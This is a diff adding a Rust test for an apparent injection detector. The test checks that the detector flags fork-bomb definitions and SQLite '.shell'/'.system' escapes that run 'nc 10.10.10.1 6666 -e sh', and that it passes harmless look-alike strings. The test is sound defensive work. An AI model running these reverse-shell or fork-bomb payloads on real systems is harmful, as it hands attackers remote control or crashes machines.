@@ -258,3 +258,32 @@ fn hard_negatives_for_versions_pipes_and_aliases() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+#[test]
+fn fork_bombs_sqlite_shell_escapes_and_redirected_words() {
+    for v in [
+        "myfunc(){ myfunc|myfunc& };myfunc",
+        "bomb() { bomb | bomb & }; bomb",
+        ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
+        "\";\\n. shell nc 10.10.10.1 6666 -e sh\\n",
+        ";\\n.system nc 10.10.10.1 6666 -e sh\\n",
+        "1;.sh whoami",
+        "<id;",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "render(){ return this.render() }",
+        "class A { run(){ run(); } }",
+        "see ASP.NET; .NET Core is newer",
+        "file.txt;.bashrc",
+        "<b>bold</b>; <i>x</i>",
+        "<p; the shell is fun",
+        "a<b; c>d",
+        ". shell games are fun",
+        "He said: .system failure | reboot later",
+        &".shell ".repeat(50_000),
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
